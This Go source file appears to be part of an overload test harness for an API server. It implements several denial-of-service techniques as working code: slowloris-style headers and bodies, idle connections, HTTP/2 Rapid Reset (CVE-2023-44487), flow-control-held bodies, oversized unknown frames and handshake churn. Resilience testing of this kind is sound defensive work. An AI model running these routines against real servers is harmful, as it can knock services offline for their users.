package overload

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// drip writes a byte now and then.
func drip(ctx context.Context, conn net.Conn) error {
	pace := time.NewTicker(200 * time.Millisecond)
	defer pace.Stop()
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-pace.C:
			if _, err := conn.Write([]byte("x")); err != nil {
				return err
			}
		}
	}
}

// slowHeaders are clients that do not complete their headers.
func slowHeaders(ctx context.Context, b *battle) {
	dial := func(ctx context.Context) (net.Conn, error) { return b.dial(ctx, "", "http/1.1", false) }
	b.hold(ctx, 500*quantity(), dial, func(ctx context.Context, conn net.Conn) error {
		if _, err := io.WriteString(conn, "GET /version HTTP/1.1\r\nHost: x\r\nX-Slow: "); err != nil {
			return err
		}
		return drip(ctx, conn)
	})
}

// idleConnections are clients that connect and send nothing, some of them not even a TLS hello.
func idleConnections(ctx context.Context, b *battle) {
	var all sync.WaitGroup
	all.Go(func() {
		dial := func(ctx context.Context) (net.Conn, error) { return b.dial(ctx, "", "h2", false) }
		b.hold(ctx, 1000*quantity(), dial, silence)
	})
	all.Go(func() { b.hold(ctx, 1000*quantity(), b.dialBare, silence) })
	all.Wait()
}

// rapidReset cancels each request as soon as it is sent (CVE-2023-44487).
func rapidReset(ctx context.Context, b *battle) {
	dial := func(ctx context.Context) (net.Conn, error) { return b.dial(ctx, "attacker", "h2", false) }
	b.hold(ctx, 8, dial, func(ctx context.Context, conn net.Conn) error {
		f, err := b.newFrames(conn)
		if err != nil {
			return err
		}
		var reading sync.WaitGroup
		defer reading.Wait()
		defer conn.Close()
		reading.Go(func() { _ = readAway(conn) })
		for ctx.Err() == nil && f.stream < 1<<30 {
			stream, err := f.ask(http.MethodGet, attacked+"/configmaps", true)
			if err != nil {
				return err
			}
			if err := f.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		return nil
	})
}

// slowBodies are clients that announce a large body and send it byte by byte.
func slowBodies(ctx context.Context, b *battle) {
	dial := func(ctx context.Context) (net.Conn, error) { return b.dial(ctx, "attacker", "http/1.1", false) }
	b.hold(ctx, 400*quantity(), dial, func(ctx context.Context, conn net.Conn) error {
		if _, err := fmt.Fprintf(conn, "POST %s/configmaps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 3000000\r\n\r\n{", attacked); err != nil {
			return err
		}
		return drip(ctx, conn)
	})
}

// heldBodies are clients that send as much of their bodies as the server's windows allow, on many
// streams, and no more.
func heldBodies(ctx context.Context, b *battle) {
	const connections, streams, sent = 200, 8, 240_000
	chunk := bytes.Repeat([]byte(" "), 12_000)
	dial := func(ctx context.Context) (net.Conn, error) { return b.dial(ctx, "attacker", "h2", false) }
	b.hold(ctx, connections, dial, func(ctx context.Context, conn net.Conn) error {
		f, err := b.newFrames(conn)
		if err != nil {
			return err
		}
		// The windows come with the first frames.
		for opened := 0; opened < 2; {
			frame, err := f.ReadFrame()
			if err != nil {
				return err
			}
			switch frame.(type) {
			case *http2.SettingsFrame, *http2.WindowUpdateFrame:
				opened++
			}
		}
		var all []uint32
		for range streams {
			stream, err := f.ask(http.MethodPost, attacked+"/configmaps", false, "content-type", "application/json", "content-length", "3000000")
			if err != nil {
				return err
			}
			all = append(all, stream)
		}
		for n := 0; n < sent; n += len(chunk) {
			for _, stream := range all {
				if err := f.WriteData(stream, false, chunk); err != nil {
					return err
				}
			}
		}
		return silence(ctx, conn)
	})
}

// bigFrames are clients without credentials that send one large frame each, of a type that servers
// ignore, and stay.
func bigFrames(ctx context.Context, b *battle) {
	dial := func(ctx context.Context) (net.Conn, error) { return b.dial(ctx, "", "h2", false) }
	b.hold(ctx, 1000*quantity(), dial, func(ctx context.Context, conn net.Conn) error {
		f, err := b.newFrames(conn)
		if err != nil {
			return err
		}
		const unknown, size = 0xff, 250_000
		if err := f.WriteRawFrame(unknown, 0, 0, make([]byte, size)); err != nil {
			return err
		}
		return readAway(conn)
	})
}

// readAway reads until the connection ends.
func readAway(conn net.Conn) error {
	_, err := io.Copy(io.Discard, conn)
	return err
}

// handshakes are clients without credentials that repeatedly connect and disconnect.
func handshakes(ctx context.Context, b *battle) {
	dial := func(ctx context.Context) (net.Conn, error) { return b.dial(ctx, "", "h2", false) }
	b.hold(ctx, 64, dial, func(context.Context, net.Conn) error { return nil })
}
